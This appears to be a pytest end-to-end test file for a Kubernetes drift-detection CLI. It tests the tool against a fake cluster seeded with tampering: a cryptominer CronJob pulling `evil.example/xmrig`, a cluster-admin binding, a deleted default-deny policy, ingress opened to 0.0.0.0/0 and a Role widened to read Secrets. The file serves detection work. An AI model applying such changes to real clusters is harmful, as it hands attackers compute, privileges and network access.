"""`nixdrift kube` end to end: the CLI against a local API server that answers like a real one.

A clean cluster (the manifests applied, plus server defaults, managedFields and the objects every
cluster has) gives no finding; each drift seeded the way an operator would make it (`kubectl
edit`, `kubectl create`, a deleted object, an uncommitted manifest) is found with its severity,
its attribution and, for Secrets, never a value.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import yaml

from kube.conftest import write_kubeconfig
from kube.kubeapi import FakeCluster

NIXDRIFT = [sys.executable, "-m", "nixdrift"]


def kube(manifests: Path, kubeconfig: Path, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [*NIXDRIFT, "kube", "--manifests", str(manifests), "--kubeconfig", str(kubeconfig), *args],
        capture_output=True,
        text=True,
        timeout=120,
        env={**os.environ, "NIXDRIFT_QUIET": "1"},
    )


def report_of(proc: subprocess.CompletedProcess[str]) -> dict[str, Any]:
    assert proc.stdout, proc.stderr
    data: dict[str, Any] = json.loads(proc.stdout)
    return data


def by_id(report: dict[str, Any]) -> dict[str, dict[str, Any]]:
    return {f["id"]: f for f in report["findings"]}


def test_a_clean_cluster_has_no_drift(shop: Path, cluster: FakeCluster, tmp_path: Path) -> None:
    kubeconfig = write_kubeconfig(tmp_path / "kubeconfig", cluster.url)
    proc = kube(shop, kubeconfig, "--format", "json")
    report = report_of(proc)
    assert report["findings"] == [], json.dumps(report["findings"], indent=1)
    assert proc.returncode == 0, proc.stderr
    assert set(report["categories"].values()) == {"ok"}
    assert not any(c in report["categories"] for c in ("etc", "packages", "firewall"))
    lists = cluster.lists()
    assert any(r.path == "/apis/apps/v1/deployments" for r in lists), [r.path for r in lists]


SHOP = "shop"


def seed_drift(cluster: FakeCluster, manifests: Path) -> None:
    """What happens to a cluster in a busy week, done the way people do it."""
    web: list[str | dict[str, Any]] = ["spec", "template", "spec"]
    app = [*web, "containers", {"name": "app"}]
    # kubectl edit: memory limit raised (DRIFT_UP), the sidecar's cpu request lowered (DRIFT_DOWN)
    cluster.edit("Deployment", SHOP, "web", [*app, "resources", "limits", "memory"], "2Gi")
    cluster.edit(
        "Deployment", SHOP, "web", [*web, "containers", {"name": "metrics"}, "resources", "requests", "cpu"], "50m"
    )
    # the init container's image swapped by hand
    cluster.edit(
        "Deployment",
        SHOP,
        "web",
        [*web, "initContainers", {"name": "migrate"}, "image"],
        "registry.example/shop/migrate:debug",
    )
    # env: a token added, the log level changed, the password read from another key
    cluster.edit(
        "Deployment", SHOP, "web", [*app, "env", {"name": "API_TOKEN"}], {"name": "API_TOKEN", "value": "s3cr3t-t0ken"}
    )
    cluster.edit("Deployment", SHOP, "web", [*app, "env", {"name": "LOG_LEVEL"}, "value"], "debug")
    cluster.edit(
        "Deployment",
        SHOP,
        "web",
        [*app, "env", {"name": "DB_PASSWORD"}, "valueFrom", "secretKeyRef", "key"],
        "admin-password",
    )
    # HPA ceiling raised; worker scaled by hand (low: may be reverted automatically)
    cluster.edit("HorizontalPodAutoscaler", SHOP, "web", ["spec", "maxReplicas"], 20)
    cluster.edit("Deployment", SHOP, "worker", ["spec", "replicas"], 3, manager="kubectl")
    # CronJob suspended and rescheduled; another CronJob nobody declared
    cluster.edit("CronJob", SHOP, "backup", ["spec", "suspend"], True, manager="kubectl-patch")
    cluster.edit("CronJob", SHOP, "backup", ["spec", "schedule"], "0 4 * * *")
    cluster.create(
        yaml.safe_load("""
        apiVersion: batch/v1
        kind: CronJob
        metadata: {name: miner, namespace: shop}
        spec:
          schedule: "*/5 * * * *"
          jobTemplate: {spec: {template: {spec: {restartPolicy: Never,
            containers: [{name: m, image: "evil.example/xmrig:latest",
              env: [{name: POOL_KEY, valueFrom: {secretKeyRef: {name: pool-credentials, key: key}}}]}]}}}}
    """)
    )
    # a Secret key added by hand, an old token nobody uses
    cluster.edit("Secret", SHOP, "db-credentials", ["data", "admin-password"], "c2VjcmV0")
    cluster.create({"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "old-token", "namespace": SHOP},
                    "data": {"token": "dG9rZW4="}})  # fmt: skip
    # NetworkPolicies: the default deny deleted, a rule opened to the world
    cluster.delete("NetworkPolicy", SHOP, "default-deny")
    cluster.edit("NetworkPolicy", SHOP, "allow-web", ["spec", "ingress"], [
        {"from": [{"namespaceSelector": {"matchLabels": {"kubernetes.io/metadata.name": "ingress"}}}],
         "ports": [{"port": 8080}]},
        {"from": [{"ipBlock": {"cidr": "0.0.0.0/0"}}]},
    ])  # fmt: skip
    # RBAC: the role may now read Secrets; a binding to cluster-admin nobody declared
    cluster.edit("Role", SHOP, "web-reader", ["rules"], [
        {"apiGroups": [""], "resources": ["configmaps"], "verbs": ["get", "list", "watch"]},
        {"apiGroups": [""], "resources": ["secrets"], "verbs": ["get", "list"]},
    ])  # fmt: skip
    cluster.create(
        yaml.safe_load("""
        apiVersion: rbac.authorization.k8s.io/v1
        kind: ClusterRoleBinding
        metadata: {name: debug-admin}
        roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin}
        subjects: [{kind: User, name: contractor@example.org}]
    """)
    )
    # a debugging Deployment left behind; the declared ConfigMap deleted
    cluster.create(
        yaml.safe_load("""
        apiVersion: apps/v1
        kind: Deployment
        metadata: {name: debug, namespace: shop}
        spec:
          selector: {matchLabels: {app: debug}}
          template: {metadata: {labels: {app: debug}}, spec: {containers: [{name: sh, image: "busybox:1.36"}]}}
    """),
        manager="kubectl-create",
    )
    cluster.delete("ConfigMap", SHOP, "web-config")
    # a manifest edited but not committed
    worker = manifests / "worker.yaml"
    worker.write_text(worker.read_text() + "# tuning, not committed yet\n")


EXPECTED = {  # id -> severity
    "kube-resources/shop/Deployment/web/app/limits.memory": "medium",
    "kube-resources/shop/Deployment/web/metrics/requests.cpu": "high",
    "kube-spec/shop/Deployment/web/initContainers/migrate/image": "high",
    "kube-env/shop/Deployment/web/app/API_TOKEN": "high",
    "kube-env/shop/Deployment/web/app/LOG_LEVEL": "medium",
    "kube-env/shop/Deployment/web/app/DB_PASSWORD": "high",
    "kube-resources/shop/HorizontalPodAutoscaler/web/maxReplicas": "medium",
    "kube-spec/shop/Deployment/worker/spec.replicas": "low",
    "kube-cronjobs/shop/CronJob/backup/suspend": "high",
    "kube-cronjobs/shop/CronJob/backup/schedule": "medium",
    "kube-cronjobs/shop/CronJob/miner/undeclared": "high",
    "kube-secrets/shop/Secret/pool-credentials/missing-ref/key": "critical",
    "kube-secrets/shop/Secret/db-credentials/extra-keys": "medium",
    "kube-secrets/shop/Secret/old-token/orphan": "low",
    "kube-network-policies/shop/NetworkPolicy/default-deny/missing": "critical",
    "kube-rbac/_cluster/ClusterRoleBinding/debug-admin/undeclared": "critical",
    "kube-orphans/shop/Deployment/debug/undeclared": "medium",
    "kube-orphans/shop/ConfigMap/web-config/missing": "high",
    "kube-manifests/worker.yaml": "high",
}


def test_every_seeded_drift_is_found_with_its_severity(shop: Path, cluster: FakeCluster, tmp_path: Path) -> None:
    seed_drift(cluster, shop)
    kubeconfig = write_kubeconfig(tmp_path / "kubeconfig", cluster.url)
    proc = kube(shop, kubeconfig, "--format", "json", "--threshold", "low")
    assert proc.returncode == 1, proc.stderr
    report = report_of(proc)
    found = by_id(report)
    got = {fid: found[fid]["severity"] for fid in EXPECTED if fid in found}
    assert got == EXPECTED
    # a rule opened to the world (high) and a role widened to Secrets (critical), each one finding
    added = [
        f for f in found.values() if f["id"].startswith("kube-network-policies/shop/NetworkPolicy/allow-web/ingress/")
    ]
    assert [(f["severity"], f["kind"]) for f in added] == [("high", "unmanaged")], added
    assert "0.0.0.0/0" in added[0]["actual"]
    widened = [f for f in found.values() if f["id"].startswith("kube-rbac/shop/Role/web-reader/rules/")]
    assert [(f["severity"], "secrets" in f["actual"]) for f in widened] == [("critical", True)]
    unexpected = set(found) - set(EXPECTED) - {f["id"] for f in added + widened}
    # nothing else: no server default, status or bookkeeping field is reported
    assert unexpected == set(), unexpected
    assert report["categories"]["kube-rbac"] == "drift"
    assert report["summary"]["critical"] == 4  # default deny gone, Role widened, binding, missing Secret


def test_findings_say_who_changed_what_and_never_show_a_secret_value(
    shop: Path, cluster: FakeCluster, tmp_path: Path
) -> None:
    seed_drift(cluster, shop)
    kubeconfig = write_kubeconfig(tmp_path / "kubeconfig", cluster.url)
    proc = kube(shop, kubeconfig, "--format", "json")
    found = by_id(report_of(proc))
    memory = found["kube-resources/shop/Deployment/web/app/limits.memory"]
    assert memory["evidence"]["manager"] == "kubectl-edit"
    assert memory["evidence"]["changed_at"].startswith(str(cluster.clock.year))
    assert (memory["expected"], memory["actual"]) == ("1024Mi", "2Gi")  # as declared; live 1Gi would be equal
    assert "DRIFT_UP" in memory["message"]
    assert found["kube-cronjobs/shop/CronJob/backup/suspend"]["evidence"]["manager"] == "kubectl-patch"
    token = found["kube-env/shop/Deployment/web/app/API_TOKEN"]
    assert token["actual"].startswith("sha256:")
    password = found["kube-env/shop/Deployment/web/app/DB_PASSWORD"]
    assert (password["expected"], password["actual"]) == (
        "from secret db-credentials/password",
        "from secret db-credentials/admin-password",
    )
    for secret_text in ("s3cr3t-t0ken", "c2VjcmV0", "dG9rZW4=", "placeholder-rotated-by-vault"):
        assert secret_text not in proc.stdout
        assert secret_text not in proc.stderr


def test_markdown_and_text_reports_of_a_drifted_cluster(shop: Path, cluster: FakeCluster, tmp_path: Path) -> None:
    seed_drift(cluster, shop)
    kubeconfig = write_kubeconfig(tmp_path / "kubeconfig", cluster.url)
    md = kube(shop, kubeconfig, "--format", "markdown", "--cluster", "prod-eu")
    assert md.returncode == 1, md.stderr
    assert md.stdout.startswith("# Drift report: prod-eu")
    assert "Review access first: re-apply the declared roles and bindings" in md.stdout  # the RBAC advice
    text = kube(shop, kubeconfig, "--cluster", "prod-eu", "--color", "never")
    assert text.returncode == 1
    assert "kube-network-policies/shop/NetworkPolicy/default-deny/missing" in text.stdout
    assert "kubectl apply --server-side --field-manager=nixdrift -f" in text.stdout
    assert text.stdout.splitlines()[1].startswith(f"manifests: {shop} @ ")  # no host generation lines
    assert "booted:" not in text.stdout


def test_an_unreachable_api_server_leaves_every_category_unavailable(shop: Path, tmp_path: Path) -> None:
    import socket

    with socket.socket() as s:  # a port nobody listens on
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    proc = kube(shop, write_kubeconfig(tmp_path / "kubeconfig", f"http://127.0.0.1:{port}"), "--format", "json")
    report = report_of(proc)
    assert proc.returncode == 2
    assert report["findings"] == []
    unread = {c: s for c, s in report["categories"].items() if c != "kube-manifests"}
    assert all(s.startswith("unavailable: cannot list") for s in unread.values()), unread
    assert report["categories"]["kube-manifests"] == "ok"  # the git state was read
    assert "not read: kube-cronjobs" in proc.stderr
